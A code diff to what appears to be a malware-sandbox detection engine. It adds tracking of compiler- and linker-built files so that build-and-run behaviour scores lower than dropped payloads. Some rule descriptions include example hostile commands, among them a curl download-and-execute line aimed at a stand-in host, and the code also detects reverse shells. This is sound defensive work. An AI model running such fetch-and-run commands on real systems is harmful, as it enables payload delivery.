@@ -125,10 +125,15 @@ class State:
     downloader_pids: set[int] = field(default_factory=set)  # processes whose connection got a stand-in
     payload_dsts: set[str] = field(default_factory=set)  # ip:port that served a stand-in
     cred_misses: set[str] = field(default_factory=set)  # credential stores looked for but absent
+    built: set[str] = field(default_factory=set)  # files written by a compiler or linker the sample ran
 
     def update(self, ev: dict[str, Any], ctx: RuleContext) -> None:
         typ = ev.get("type")
         t = _time(ev)
+        if typ == "exec" and ev.get("ok", True) and ev.get("src") != "wine":
+            pid = ev.get("pid")
+            if isinstance(pid, int) and len(self.proc_exe) < 10_000:
+                self.proc_exe[pid] = prog_name(_s(ev.get("path")))
         if typ == "file" and ev.get("ok", True):
             op = ev.get("op")
             path = _s(ev.get("path"))
@@ -205,6 +210,8 @@ class State:
             mine = self.written_by.setdefault(pid, [])
             if len(mine) < 100:
                 mine.append(path)
+            if self.proc_exe.get(pid) in TOOLCHAIN and len(self.built) < 10_000:
+                self.built.add(path)
         if self.payload_t is not None and t >= self.payload_t or pid in self.downloader_pids:
             self.downloaded.add(path)
         if self.self_read_t is not None and t >= self.self_read_t and len(self.self_copies) < 1000 and (
@@ -759,14 +766,31 @@ def _executed_paths(ev: dict[str, Any]) -> list[str]:
     return paths
 
 
+#: programs whose output is a program built from source: running it is a build, not a dropped payload
+TOOLCHAIN = frozenset({"cc", "gcc", "g++", "c++", "clang", "clang++", "tcc", "ld", "ld.bfd", "ld.gold", "ld.lld",
+                       "lld", "collect2", "as", "cc1", "cc1plus", "rustc", "go", "javac", "ghc", "fpc", "nasm"})
+
+
+def _built(p: str, st: State) -> bool:
+    """``p`` came out of a compiler or linker (and not out of a download)."""
+    return p in st.built and p not in st.downloaded
+
+
 def _drop_execute(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
     for p in _exec_targets(ev, ctx):
-        if p == ctx.sample_path:
+        if p == ctx.sample_path or _built(p, st):
             continue
         if st.was_written(p, ctx):
             return f"wrote then executed {p}"
         if p in st.exec_bit:
             return f"chmod +x then executed {p}"
+    return None
+
+
+def _build_execute(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
+    for p in _exec_targets(ev, ctx):
+        if p != ctx.sample_path and _built(p, st):
+            return f"compiled, then executed {p}"
     return None
 
 
@@ -913,8 +937,6 @@ def _reverse_shell(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | Non
                 return f"{_prog(ev)}.exe started after a connection to a raw IP address or C2 port"
             return None
         pid = ev.get("pid")
-        if isinstance(pid, int) and len(st.proc_exe) < 10_000:
-            st.proc_exe[pid] = prog_name(_s(ev.get("path")))
         ppid = ev.get("ppid")
         # a child whose clone strace printed after its exec has no known parent: any raw connection counts
         if prog_name(_s(ev.get("path"))) in SHELLS and st.raw_conn_pids and (
@@ -1483,6 +1505,9 @@ RULES: tuple[Rule, ...] = (
          _f(EVASION)),
     Rule("drop_execute", 7, _t("exec"), _drop_execute,
          "executes a file it wrote (or made executable) itself", "write /tmp/.x; chmod +x; exec /tmp/.x", _f(EXEC)),
+    Rule("build_execute", 3, _t("exec"), _build_execute,
+         "compiles a program and runs it (build and test scripts do; a dropper writes its payload itself)",
+         "cc -o /tmp/t t.c; /tmp/t", _f(EXEC)),
     Rule("download_execute", 9, _t("exec"), _download_execute,
          "executes content fetched from the simulated internet (a file written after the download, or the "
          "payload itself)", "curl http://x/p -o /tmp/p; sh /tmp/p", _f(EXEC, DOWNLOAD)),
